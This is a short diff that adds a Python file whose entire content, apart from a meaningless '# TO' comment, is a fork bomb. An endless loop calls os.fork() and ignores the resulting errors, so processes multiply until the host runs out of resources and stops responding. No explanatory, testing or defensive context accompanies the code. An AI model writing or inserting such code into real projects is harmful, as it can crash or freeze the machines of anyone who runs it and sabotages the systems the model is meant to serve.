@@ -1,0 +1,7 @@
+# TO
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
